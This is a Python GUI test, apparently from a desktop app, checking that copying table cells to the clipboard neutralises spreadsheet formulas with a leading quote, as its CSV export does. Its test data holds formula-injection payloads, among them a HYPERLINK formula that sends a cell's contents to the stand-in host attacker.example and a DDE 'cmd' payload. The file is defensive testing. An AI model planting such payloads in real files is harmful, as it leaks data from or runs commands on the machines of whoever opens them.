"""Ctrl+C in the table hands a spreadsheet the cells as the CSV export writes them: a value it would
run as a formula gets a leading ', unless the export option "Write CSV values exactly as stored" is
on. A paste back into RET Desktop takes the values exactly as they were."""

from PySide6.QtCore import QItemSelection, QItemSelectionModel, Qt
from PySide6.QtWidgets import QApplication

from test_gui import action, open_library_table

FORMULAS = ['=HYPERLINK("http://attacker.example/?"&A1,"Open")', "=cmd|' /c calc'!A1", "@SUM(1+1)",
            "+1+1", "-5", "plain text", ""]
NEUTRALISED = ['\'=HYPERLINK("http://attacker.example/?"&A1,"Open")', "'=cmd|' /c calc'!A1", "'@SUM(1+1)",
               "'+1+1", "-5", "plain text", ""]


def copy_cells(view, model, rows, column, qtbot) -> str:
    view.selectionModel().select(QItemSelection(model.index(rows.start, column), model.index(rows.stop - 1, column)),
                                 QItemSelectionModel.SelectionFlag.ClearAndSelect)
    QApplication.clipboard().clear()
    qtbot.keyClick(view, Qt.Key.Key_C, Qt.KeyboardModifier.ControlModifier)
    return QApplication.clipboard().text()


def test_copy_neutralises_formulas_as_the_csv_export_does_unless_values_as_stored_is_chosen(app, qtbot, monkeypatch):
    view, model = open_library_table(app, qtbot, monkeypatch)
    title = model.columns.index("title")
    assert model.paste(0, title, [[value] for value in FORMULAS]) == len(FORMULAS)
    stored = range(len(FORMULAS))

    assert copy_cells(view, model, stored, title, qtbot) == "\n".join(NEUTRALISED) + "\n"

    view.setCurrentIndex(model.index(100, title))  # a paste inside the app keeps the values exactly
    qtbot.keyClick(view, Qt.Key.Key_V, Qt.KeyboardModifier.ControlModifier)
    assert [model.index(100 + row, title).data() for row in stored] == FORMULAS

    QApplication.clipboard().setText("'=1+1\n")  # what a spreadsheet copies is pasted as it is
    view.setCurrentIndex(model.index(200, title))
    qtbot.keyClick(view, Qt.Key.Key_V, Qt.KeyboardModifier.ControlModifier)
    assert model.index(200, title).data() == "'=1+1"

    action(app.main_window, "actionCsvRaw").setChecked(True)
    assert copy_cells(view, model, stored, title, qtbot) == "\n".join(FORMULAS) + "\n"
